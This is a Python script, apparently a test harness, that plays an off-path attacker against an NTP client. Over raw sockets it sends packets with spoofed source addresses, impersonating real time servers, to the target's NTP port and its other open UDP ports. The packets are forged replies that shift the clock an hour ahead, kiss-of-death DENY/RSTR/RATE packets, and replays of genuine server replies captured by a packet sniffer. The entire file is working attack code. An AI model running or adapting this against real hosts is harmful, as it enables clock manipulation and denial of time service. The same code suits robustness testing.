"""Somebody who sees none of a client's packets but may send with any source address, and knows everything else.

forger.py TARGET SEED COUNT SECONDS UDP_TABLE RECORDED SERVER...: sends COUNT packets, spread over SECONDS, in the names of
the SERVERs to TARGET's port 123 and to the ports that UDP_TABLE, its /proc/PID/net/udp, says are open just then: answers,
DENY, RSTR and RATE kisses with guessed and with no origin, and copies of what the servers once answered, one in hex on each
line of RECORDED. Prints how many it sent.

forger.py record RECORDED SERVER: writes such lines of what this host, the server's, sends until it is ended.
"""

import random
import socket
import struct
import sys
import time

NTP_PORT = 123
UNIX_TO_NTP = 2208988800
ETH_P_ALL = 3
HOUR_S = 3600


def ip_packet(source, target, port, payload):
    udp = struct.pack("!HHHH", NTP_PORT, port, 8 + len(payload), 0)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(payload), 0, 0, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(source), socket.inet_aton(target))
    return header + udp + payload


def timestamp(seconds):
    return int((seconds + UNIX_TO_NTP) * 2**32) & (2**64 - 1)


def answer(leap, stratum, refid, origin, at):
    return struct.pack("!BBbbII4sQQQQ", leap << 6 | 4 << 3 | 4, stratum, 6, -20, 0, 33, refid, at, origin, at, at)


def forged(chance, recorded):
    origin = chance.choice((0, chance.getrandbits(64), timestamp(time.time()) & ~0xFFFFFFFF | chance.getrandbits(32)))
    kind = chance.randrange(3)
    if kind == 0 and recorded:
        return chance.choice(recorded)
    if kind == 1:
        return answer(3, 0, chance.choice((b"DENY", b"RSTR", b"RATE")), origin, timestamp(time.time()))
    return answer(0, 1, b"EVIL", origin, timestamp(time.time() + HOUR_S))


def open_ports(table):
    with open(table) as lines:
        next(lines)
        ports = {int(line.split()[1].split(":")[1], 16) for line in lines}
    return sorted(ports | {NTP_PORT})


def read_recorded(path):
    with open(path) as lines:
        # the newest may still be on its way, and a copy that overtakes it is as good as the original
        return [bytes.fromhex(line) for line in lines.readlines()[:-1]]


def attack(target, seed, count, seconds, table, recorded_path, servers):
    chance = random.Random(seed)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begin = time.monotonic()
    for i in range(count):
        if i % 100 == 0:
            time.sleep(max(0, begin + seconds * i / count - time.monotonic()))
            ports, recorded = open_ports(table), read_recorded(recorded_path)
        packet = ip_packet(chance.choice(servers), target, chance.choice(ports), forged(chance, recorded))
        raw.sendto(packet, (target, 0))
    print("sent", count, "seed", seed)


def record(path, server):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    with open(path, "w", buffering=1) as lines:
        while True:
            packet = wire.recv(2048)
            from_server = packet[12:16] == socket.inet_aton(server)
            if from_server and packet[9] == socket.IPPROTO_UDP and packet[20:22] == struct.pack("!H", NTP_PORT):
                lines.write(packet[28:].hex() + "\n")


if sys.argv[1] == "record":
    record(sys.argv[2], sys.argv[3])
else:
    attack(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5], sys.argv[6], sys.argv[7:])
